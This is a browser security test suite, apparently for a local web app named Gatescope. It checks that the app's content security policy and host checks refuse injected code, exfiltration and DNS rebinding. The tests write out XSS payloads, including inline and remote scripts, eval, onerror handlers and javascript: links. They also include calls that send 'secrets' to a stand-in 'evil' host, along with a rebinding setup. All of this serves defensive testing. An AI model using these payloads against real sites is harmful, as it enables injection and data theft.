// Holds P19.
/** A real browser holds the page to its policy, and the host to its own address, whoever tries. */

import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, isWindow, prediction, test as base } from './fixtures.ts';

type Evil = {
  /** Origin of a site that answers everything and lets anyone read it. */
  readonly origin: string;
  /** The requests that it got. */
  readonly asked: string[];
};

const test = base.extend<{ evil: Evil }, object>({
  // A name that an attacker's DNS resolves to this machine.
  launchOptions: [
    async ({ launchOptions }, use) => {
      const args = [...(launchOptions.args ?? []), '--host-resolver-rules=MAP rebind.example 127.0.0.1'];
      await use({ ...launchOptions, args });
    },
    { scope: 'worker' },
  ],
  // eslint-disable-next-line no-empty-pattern -- Playwright wants the fixtures that one needs named in a pattern
  evil: async ({}, use) => {
    const asked: string[] = [];
    const server: Server = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.writeHead(200, {
        'Content-Type': 'text/html',
        'Access-Control-Allow-Origin': '*',
        'Cross-Origin-Resource-Policy': 'cross-origin',
      });
      response.end('<!doctype html><title>evil</title>');
    });
    await once(server.listen(0, '127.0.0.1'), 'listening');
    await use({ origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked });
    server.closeAllConnections();
    server.close();
  },
});

/** Does in the page what injected code would do. @returns the directives that refused it */
function attack(page: Page, origin: string): Promise<string[]> {
  return page.evaluate(async (evil) => {
    const refusals: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      refusals.push(effectiveDirective);
    });
    const add = (tag: string, attributes: object) => {
      document.body.append(Object.assign(document.createElement(tag), attributes));
    };
    const attempts: (() => unknown)[] = [
      () => {
        add('script', { text: 'window.owned = 1' });
      },
      () => {
        add('script', { src: `${evil}/script.js` });
      },
      () => {
        document.body.setAttribute('onclick', 'window.owned = 1');
        document.body.click();
      },
      () => (document.body.innerHTML = '<b>markup</b>'),
      (): unknown => Reflect.apply(eval, undefined, ['window.owned = 1']),
      () => fetch(`${evil}/fetch`),
      () => new WebSocket(`${evil.replace('http', 'ws')}/socket`),
      () => navigator.sendBeacon(`${evil}/beacon`, 'secrets'),
      () => new EventSource(`${evil}/events`),
      () => {
        add('img', { src: `${evil}/image.png` });
      },
      () => {
        add('iframe', { src: `${evil}/frame` });
      },
      () => {
        add('link', { rel: 'stylesheet', href: `${evil}/a.css` });
      },
      () => {
        add('base', { href: evil });
      },
      () => {
        add('form', { action: `${evil}/form`, method: 'post', id: 'form' });
        document.querySelector<HTMLFormElement>('#form')?.submit();
      },
    ];
    for (const attempt of attempts) {
      try {
        await attempt();
      } catch {
        // Thrown or refused silently: only the policy's reports and the site's requests count.
      }
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    await new Promise((resolve) => setTimeout(resolve, 300));
    if ('owned' in window) refusals.push('OWNED');
    return refusals;
  }, origin);
}

test('runs nothing more for code that got into the page, and sends nothing out', async ({ app, evil }) => {
  const refusals = await attack(app, evil.origin);

  expect(new Set(refusals)).toEqual(
    new Set([
      'require-trusted-types-for',
      'connect-src',
      'img-src',
      'frame-src',
      'style-src-elem',
      'base-uri',
      'form-action',
    ]),
  );
  expect(evil.asked).toEqual([]);
});

test('runs nothing for markup that got into the page', async ({ app, evil }) => {
  test.skip(isWindow(), 'Playwright cannot alter what comes from the scheme of the window.');
  const { origin } = evil;
  await app.addInitScript(() => {
    const refusals: string[] = [];
    Object.assign(window, { refusals });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      refusals.push(effectiveDirective);
    });
  });
  await app.route(
    (url) => url.pathname === '/' || url.pathname === '/index.html',
    async (route) => {
      const response = await route.fetch();
      const markup =
        `<script>window.owned = 1</script><script src="${origin}/script.js"></script><p style="color: red">` +
        `<img src="data:," onerror="window.owned = 1"><object data="${origin}/object"></object>` +
        `<iframe srcdoc="<script>parent.owned = 1</script>"></iframe><a id="link" href="javascript:window.owned=1">x</a>`;
      await route.fulfill({ response, body: (await response.text()).replace('</body>', `${markup}</body>`) });
    },
  );
  await app.reload();
  await expect(prediction(app)).toBeVisible();
  await app.evaluate(() => document.getElementById('link')?.click());
  await expect
    .poll(() => app.evaluate(() => [...new Set((window as unknown as { refusals: string[] }).refusals)].sort()))
    .toEqual(['object-src', 'script-src-attr', 'script-src-elem', 'style-src-attr']);

  expect(await app.evaluate(() => 'owned' in window)).toBe(false);
  expect(evil.asked).toEqual([]);
});

test('lets no other site read, embed or connect to the page, even if it knows the address', async ({ app, evil }) => {
  test.skip(isWindow(), 'The window has no host that could be reached.');
  const site = await app.context().newPage();
  await site.goto(evil.origin);
  const reached = await site.evaluate(async (url) => {
    const { origin, host, search } = new URL(url);
    const ends = (target: EventTarget, good: string, bad: string) =>
      new Promise<string>((resolve) => {
        target.addEventListener(good, () => {
          resolve(good);
        });
        target.addEventListener(bad, () => {
          resolve('refused');
        });
      });
    const load = (element: HTMLElement, attributes: object) => {
      document.body.append(Object.assign(element, attributes));
      return ends(element, 'load', 'error');
    };
    const send = (mode: RequestMode) =>
      fetch(url, { mode }).then(
        () => 'answered',
        () => 'refused',
      );
    const frame = document.createElement('iframe');
    await load(frame, { src: url });
    return {
      read: await send('cors'),
      sent: await send('no-cors'),
      script: await load(document.createElement('script'), { src: `${origin}/${search}` }),
      image: await load(document.createElement('img'), { src: `${origin}/icon.svg` }),
      socket: await ends(new WebSocket(`ws://${host}/engine${search}`), 'open', 'close'),
      frame: frame.contentDocument === null ? 'refused' : 'readable',
    };
  }, app.url());

  expect(new Set(Object.values(reached)), JSON.stringify(reached)).toEqual(new Set(['refused']));
  expect(await site.frames()[1]?.locator('body').innerText()).not.toContain('Gatescope');

  const { port, search } = new URL(app.url());
  for (const path of [`/${search}`, '/icon.svg']) {
    const rebound = await site.goto(`http://rebind.example:${port}${path}`);
    expect(rebound?.status()).toBe(403);
    expect(await rebound?.text()).toMatch(
      /^Gatescope answers only under its own address.+forward port \d+ to the same port/,
    );
  }
  expect(await app.context().cookies()).toEqual([]);
});
